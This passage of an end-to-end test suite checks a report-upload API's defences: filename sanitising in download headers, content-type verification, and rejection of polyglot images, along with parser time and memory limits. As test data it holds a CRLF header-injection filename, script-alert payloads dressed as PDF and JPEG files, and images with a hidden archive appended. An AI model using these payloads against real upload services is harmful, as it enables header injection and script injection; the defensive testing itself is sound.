    expect(issue.status).toBe(201);
    expect(issue.body.fileName).not.toMatch(/[/\\]/);
    expect(await disposition(issue.body.id)).toBe(`attachment; filename="${issue.body.fileName.replace(/[\r\n]/g, '')}"; filename*=UTF-8''${encodeURIComponent(issue.body.fileName.replace(/[\r\n]/g, ''))}`);

    const hostileName = 'a\r\nContent-Type: text-html\r\nSet-Cookie: x="1".pdf';
    const res = await send(hostileName);
    expect(res.status).toBe(201);
    expect(res.body.fileName).toBe(hostileName); // stored as given, for display
    const header = await disposition(res.body.id);
    expect(header).not.toMatch(/[\r\n]/);
    expect(header).toBe(`attachment; filename="aContent-Type: text-htmlSet-Cookie: x=_1_.pdf"; filename*=UTF-8''aContent-Type%3A%20text-htmlSet-Cookie%3A%20x%3D%221%22.pdf`);

    const japanese = await upload(holder.a.token!, reports.adjustment_year, Buffer.from('%PDF-1.4\n%%EOF\n'), "排出量(2024年度)'s 報告.pdf", 'attachments');
    expect(japanese.status).toBe(201);
    expect(japanese.body.fileName).toBe("排出量(2024年度)'s 報告.pdf");
    const jheader = await disposition(japanese.body.id);
    expect(jheader).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%!#$&+.^_`|~-]+$/);
    expect(jheader).toContain(`filename="___(2024__)'s __.pdf"`);
    expect(decodeURIComponent(jheader.split("UTF-8''")[1])).toBe("排出量(2024年度)'s 報告.pdf");
  });

  it('ties the extension to the content and inspects PNG and JPEG attachments; downloads say nosniff', async () => {
    const { crc32, deflateSync } = await import('node:zlib');
    const chunk = (type: string, data: Buffer) => {
      const head = Buffer.alloc(8);
      head.writeUInt32BE(data.length, 0);
      head.write(type, 4, 'latin1');
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
      return Buffer.concat([head, data, crc]);
    };
    const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
    const pngOf = (...extra: Buffer[]) =>
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), ...extra, chunk('IDAT', deflateSync(Buffer.from([0, 0x80]))), chunk('IEND', Buffer.alloc(0))]);
    const zip = makeZip([{ name: 'xl/vbaProject.bin', data: CFB }]);
    const jpeg = Buffer.concat([
      Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
      Buffer.from('ffda0008010100003f00', 'hex'),
      Buffer.from('d2cf20ff00a1ffd0b3', 'hex'),
      Buffer.from('ffd9', 'hex'),
    ]);
    const app1Length = Buffer.alloc(2);
    app1Length.writeUInt16BE(zip.length + 2);
    const before = await stored(reports.adjustment_year);
    const refused: [string, Buffer, number, string, RegExp?][] = [
      ['page.html', Buffer.from('%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n%%EOF\n'), 422, 'FILE_TYPE_MISMATCH'],
      ['map.pdf', pngOf(), 422, 'FILE_TYPE_MISMATCH'],
      ['photo.png', jpeg, 422, 'FILE_TYPE_MISMATCH'],
      ['data.png', zip, 422, 'FILE_TYPE_MISMATCH'],
      ['report', Buffer.from('%PDF-1.4\n%%EOF\n'), 422, 'FILE_TYPE_MISMATCH'],
      ['a.png', Buffer.concat([pngOf().subarray(0, 8), zip]), 422, 'FILE_ACTIVE_CONTENT', /damaged image/],
      ['b.png', Buffer.concat([pngOf(), zip]), 422, 'FILE_ACTIVE_CONTENT', /data after the image end/],
      ['c.png', pngOf(chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), zip]))), 422, 'FILE_ACTIVE_CONTENT', /embedded archive/],
      ['d.jpg', Buffer.concat([jpeg, Buffer.from('<html><script>alert(1)</script></html>'.repeat(10))]), 422, 'FILE_ACTIVE_CONTENT', /data after the image end/],
      ['f.jpg', Buffer.concat([jpeg, zip]), 422, 'FILE_ACTIVE_CONTENT', /embedded archive/],
      ['e.jpeg', Buffer.concat([jpeg.subarray(0, 20), Buffer.from('ffe1', 'hex'), app1Length, zip, jpeg.subarray(20)]), 422, 'FILE_ACTIVE_CONTENT', /embedded archive/],
    ];
    for (const [name, file, status, code, reason] of refused) {
      const res = await upload(holder.a.token!, reports.adjustment_year, file, name, 'attachments');
      expect([name, res.status, res.body.code]).toEqual([name, status, code]);
      expect(res.body.message).toMatch(/[ぁ-んァ-ヶ一-龠]/);
      if (reason) expect(JSON.stringify(res.body.details)).toMatch(reason);
    }
    expect(await stored(reports.adjustment_year)).toBe(before);

    for (const [name, file, media] of [['敷地図.PNG', pngOf(), 'image/png'], ['photo.jpeg', Buffer.concat([jpeg, Buffer.alloc(16)]), 'image/jpeg'], ['photo.jpg', jpeg, 'image/jpeg']] as const) {
      const res = await upload(holder.a.token!, reports.adjustment_year, file, name, 'attachments');
      expect([name, res.status, res.body.mediaType]).toEqual([name, 201, media]);
      const download = await t.http().get(`/api/v1/files/${res.body.id}`).set(auth(holder.b.token!)).buffer(true).parse(binary);
      expect([download.status, download.headers['content-type'], download.headers['x-content-type-options']]).toEqual([200, media, 'nosniff']);
      expect(Buffer.compare(download.body as Buffer, file)).toBe(0);
    }
    expect(await stored(reports.adjustment_year)).toBe(before + 3);
  });

  it('accepts the form as LibreOffice Calc saves it (its content types, relationships, app.xml, FALSE(), shared formulas)', async () => {
    const lo = rezip(await buildTemplate({ holderNumber, fiscalYear: 2014, kind: 'target_year' }, [{ kind: ELEC, quantity: 30 }]), (p) => {
      p.delete('xl/theme/theme1.xml');
      editPart(p, TYPES, /<Override PartName="\/xl\/theme\/theme1.xml"[^>]*\/>/, '');
      editPart(p, TYPES, '</Types>', '<Default Extension="png" ContentType="image/png"/><Default Extension="jpeg" ContentType="image/jpeg"/><Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>');
      editPart(p, WB_RELS, /<Relationship Id="rId2" Type="[^"]*theme" Target="theme\/theme1.xml"\/>/, '');
      p.set('_rels/.rels', Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="${NS}/package/2006/relationships"><Relationship Id="rId1" Type="${NS}/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId2" Type="${REL}/extended-properties" Target="docProps/app.xml"/><Relationship Id="rId3" Type="${REL}/custom-properties" Target="docProps/custom.xml"/><Relationship Id="rId4" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`));
      p.set('docProps/app.xml', Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n<Properties xmlns="${NS}/officeDocument/2006/extended-properties" xmlns:vt="${NS}/officeDocument/2006/docPropsVTypes"><Template></Template><TotalTime>1</TotalTime><Application>LibreOffice/7.4.7.2$Linux_X86_64 LibreOffice_project/40$Build-2</Application><AppVersion>15.0000</AppVersion></Properties>`));
      p.set('docProps/custom.xml', Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n<Properties xmlns="${NS}/officeDocument/2006/custom-properties" xmlns:vt="${NS}/officeDocument/2006/docPropsVTypes"></Properties>`));
      // LibreOffice spells FALSE as FALSE(), marks formulas aca="false" and writes a filled column as one shared formula
      const sheet = p.get(SHEET)!.toString('utf8').replace(/<f>([^<]*)<\/f>/g, (_m, f: string) => `<f aca="false">${f.replace(/FALSE\)/g, 'FALSE())')}</f>`);
      let first = true;
      p.set(
        SHEET,
        Buffer.from(
          sheet.replace(/(<c r="F(\d+)"[^>]*>)<f aca="false">IF\(B\d+=&quot;&quot;,&quot;&quot;,ROUND\(C\d+\*E\d+,3\)\)<\/f>/g, (_m, open: string) => {
            if (first) {
              first = false;
              return `${open}<f t="shared" ref="F8:F57" si="0" aca="false">IF(B8=&quot;&quot;,&quot;&quot;,ROUND(C8*E8,3))</f>`;
            }
            return `${open}<f t="shared" si="0" aca="false"/>`;
          }),
        ),
      );
    });
    const res = await upload(holder.b.token!, reports.target_year, lo, 'calc.xlsx');
    expect(res.status).toBe(201);
    expect(res.body.emissions).toBe('13.230');
  });

  it('accepts the form as openpyxl saves it (absolute relationship targets, its app.xml and content types)', async () => {
    const py = rezip(await buildTemplate({ holderNumber, fiscalYear: 2014, kind: 'target_year' }, [{ kind: ELEC, quantity: 20 }]), (p) => {
      editPart(p, WB_RELS, /Target="(?!\/)/g, 'Target="/xl/');
      p.set('_rels/.rels', Buffer.from(`<Relationships xmlns="${NS}/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="${NS}/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId3" Type="${REL}/extended-properties" Target="docProps/app.xml"/></Relationships>`));
      p.set('docProps/app.xml', Buffer.from(`<Properties xmlns="${NS}/officeDocument/2006/extended-properties" xmlns:vt="${NS}/officeDocument/2006/docPropsVTypes"><Application>Microsoft Excel</Application><AppVersion>3.1</AppVersion></Properties>`));
      for (const dir of ['_rels/', 'xl/', 'xl/_rels/', 'xl/worksheets/', 'xl/theme/', 'docProps/']) p.delete(dir); // openpyxl writes no directory entries
    });
    const res = await upload(holder.b.token!, reports.target_year, py, 'openpyxl.xlsx');
    expect(res.status).toBe(201);
    expect(res.body.emissions).toBe('8.820');
  });
});

describe('uploads: the worker time limit (e2e)', () => {
  let t: TestApp;
  let sec: string;
  let holder: Holder;
  let reports: Record<string, string>;
  let holderNumber: string;

  beforeAll(async () => {
    t = await createTestApp({ FILE_PARSE_TIMEOUT_MS: '700', FILE_WORKERS: '1' });
    sec = await secretariatToken(t);
    holder = await activatedHolder(t, sec);
    holderNumber = (await t.http().get(`/api/v1/target-holders/${holder.id}`).set(auth(sec))).body.holderNumber;
    const phase = await t.http().post('/api/v1/phases').set(auth(sec)).send({ name: '第10期', adoptedFiscalYear: 2013, baseFiscalYear: 2013, targetFiscalYear: 2014, adjustmentFiscalYear: 2015 });
    const joined = await t.http().post(`/api/v1/phases/${phase.body.id}/participants`).set(auth(sec)).send({ targetHolderId: holder.id, reductionTarget: '10' });
    reports = Object.fromEntries(joined.body.reports.map((r: { kind: string; id: string }) => [r.kind, r.id]));
  });
  afterAll(() => t?.close());

  it('refuses a file whose parse outlasts the limit (422 FILE_PARSE_TIMEOUT), replaces the worker, and takes the next valid upload', async () => {
    const expected = { holderNumber, fiscalYear: 2013, kind: 'base_year' as const };
    const small = await buildTemplate(expected, [{ kind: ELEC, quantity: 1 }]);
    const upload = (file: Buffer) => t.http().post(`/api/v1/reports/${reports.base_year}/files`).set(auth(holder.b.token!)).attach('file', file, 'r.xlsx');
    expect((await t.http().post(`/api/v1/reports/${reports.base_year}/attachments`).set(auth(holder.a.token!)).attach('file', small, 'warm.xlsx')).status).toBe(201); // the worker is up
    const big = await buildTemplate(expected, Array.from({ length: 20_000 }, (_, i) => ({ kind: EMISSION_FACTORS[i % 8].label, quantity: i + 1 })));
    const started = Date.now();
    const slow = await upload(big);
    expect([slow.status, slow.body.code]).toEqual([422, 'FILE_PARSE_TIMEOUT']);
    expect(slow.body.message).toMatch(/制限時間/);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect((await t.db.dataSource.query(`SELECT count(*)::int AS n FROM report_files WHERE report_id = $1 AND kind = 'calculation'`, [reports.base_year]))[0].n).toBe(0);
    const next = await upload(small);
    expect(next.status).toBe(201);
    expect(next.body.emissions).toBe('0.441');
  });
});

describe('uploads: the worker memory limit (e2e)', () => {
  let t: TestApp;
  let holder: Holder;
  let reports: Record<string, string>;
  let holderNumber: string;

  beforeAll(async () => {
    t = await createTestApp({ FILE_PARSE_MEMORY_MB: '64', FILE_WORKERS: '1' });
    const sec = await secretariatToken(t);
    holder = await activatedHolder(t, sec);
    holderNumber = (await t.http().get(`/api/v1/target-holders/${holder.id}`).set(auth(sec))).body.holderNumber;
    const phase = await t.http().post('/api/v1/phases').set(auth(sec)).send({ name: '第11期', adoptedFiscalYear: 2013, baseFiscalYear: 2013, targetFiscalYear: 2014, adjustmentFiscalYear: 2015 });
    const joined = await t.http().post(`/api/v1/phases/${phase.body.id}/participants`).set(auth(sec)).send({ targetHolderId: holder.id, reductionTarget: '10' });
    reports = Object.fromEntries(joined.body.reports.map((r: { kind: string; id: string }) => [r.kind, r.id]));
  });
  afterAll(() => t?.close());

  it('refuses a file whose parse needs more heap than the limit (422 FILE_PARSE_MEMORY_EXCEEDED), replaces the worker, and takes the next valid upload', async () => {
    const expected = { holderNumber, fiscalYear: 2013, kind: 'base_year' as const };
    const upload = (file: Buffer) => t.http().post(`/api/v1/reports/${reports.base_year}/files`).set(auth(holder.b.token!)).attach('file', file, 'r.xlsx');
    // the designated form at its row limit: ExcelJS needs well over 64 MB of heap for it
    const big = await buildTemplate(expected, Array.from({ length: 20_000 }, (_, i) => ({ kind: EMISSION_FACTORS[i % 8].label, quantity: i + 1 })));
    const refused = await upload(big);
    expect([refused.status, refused.body.code]).toEqual([422, 'FILE_PARSE_MEMORY_EXCEEDED']);
    expect(refused.body.message).toMatch(/メモリ/);
    expect((await t.db.dataSource.query(`SELECT count(*)::int AS n FROM report_files WHERE report_id = $1`, [reports.base_year]))[0].n).toBe(0);
    const next = await upload(await buildTemplate(expected, [{ kind: ELEC, quantity: 2 }]));
    expect(next.status).toBe(201);
    expect(next.body.emissions).toBe('0.882');
  });
});
